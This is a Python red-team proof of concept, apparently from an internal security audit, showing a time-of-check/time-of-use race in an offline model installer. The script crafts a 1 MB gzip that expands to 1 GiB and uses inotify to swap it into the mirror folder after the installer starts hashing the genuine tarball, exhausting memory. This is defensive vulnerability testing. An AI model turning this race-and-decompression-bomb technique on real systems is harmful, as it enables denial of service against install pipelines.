"""Finding 2: ``safecity models install --tarball-dir`` checks the mirror's tarball and then
reads it again by path (TOCTOU), so whoever can write to the offline-mirror folder gets a file
of their choosing past the pinned sha512 into the tar reader and the TF.js converter. Here it
is a 1 MB gzip whose ``package/models/nanodet.json`` is 1 GiB: the installer holds it all in
memory (a 100 MB file would ask for ~100 GiB). The converted result is still checked against
its pin, so nothing altered is installed: the impact is exhaustion and a parser exposed to
unauthenticated input, not a bad model.

Real processes and files: the genuine npm tarball (/work/scratch/human-models-3.0.4.tgz) in a
mirror folder, `model_install.install` in a child process; this process swaps the mirror file as
soon as the installer opens it (inotify IN_OPEN: the open handle keeps hashing the genuine file).

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/mirror_swap_bomb.py
Exit 0 = the installer read the swapped file (peak memory over 1 GiB), 1 = it did not.
"""

from __future__ import annotations

import ctypes
import io
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

from privacy import model_registry

IN_OPEN = 0x20
GENUINE = Path("/work/scratch/human-models-3.0.4.tgz")
BOMB_BYTES = 1 << 30

INSTALL = r"""
import resource, sys
from pathlib import Path
from nodes import model_install
try:
    model_install.install(Path(sys.argv[1]), tarball_dir=Path(sys.argv[2]))
    print("INSTALLED")
except Exception as exc:
    print("ERROR", type(exc).__name__, str(exc)[:200])
print("PEAK_RSS_MIB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


class Spaces(io.RawIOBase):
    """``size`` bytes of JSON whitespace, made as they are read."""

    def __init__(self, size: int):
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = b" " * n
        self.left -= n
        return n


def bomb(path: Path) -> None:
    with tarfile.open(path, "w:gz", compresslevel=9) as archive:
        info = tarfile.TarInfo("package/models/nanodet.json")
        info.size = BOMB_BYTES
        archive.addfile(info, io.BufferedReader(Spaces(BOMB_BYTES), 1 << 20))


def main() -> int:
    real = model_registry.default_cache_dir()
    with tempfile.TemporaryDirectory(prefix="redteam-mirror-") as tmp:
        cache, mirror = Path(tmp) / "cache", Path(tmp) / "mirror"
        cache.mkdir()
        mirror.mkdir()
        for spec in model_registry.REGISTRY.values():  # the wheel models: already installed
            if spec.npm is None:
                shutil.copy2(real / spec.filename, cache / spec.filename)
        name = model_registry.HUMAN_MODELS.filename
        shutil.copy2(GENUINE, mirror / name)
        bomb(mirror / ".swap")
        print(f"crafted tarball: {(mirror / '.swap').stat().st_size / 1e6:.1f} MB")
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        fd = libc.inotify_init()
        libc.inotify_add_watch(fd, str(mirror).encode(), IN_OPEN)
        child = subprocess.Popen([sys.executable, "-c", INSTALL, str(cache), str(mirror)],
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        swapped = False
        while not swapped and child.poll() is None:
            buf = os.read(fd, 4096)  # blocks until the next open in the mirror
            offset = 0
            while offset < len(buf):
                length = struct.unpack_from("iIII", buf, offset)[3]
                opened = buf[offset + 16: offset + 16 + length].rstrip(b"\0").decode()
                offset += 16 + length
                if opened == name and not swapped:  # hashing has begun on the genuine file
                    os.replace(mirror / ".swap", mirror / name)
                    swapped = True
        out, _ = child.communicate()
        print(out.strip())
        peak = int(out.rsplit("PEAK_RSS_MIB", 1)[1])
        return 0 if peak > BOMB_BYTES >> 20 else 1


if __name__ == "__main__":
    raise SystemExit(main())
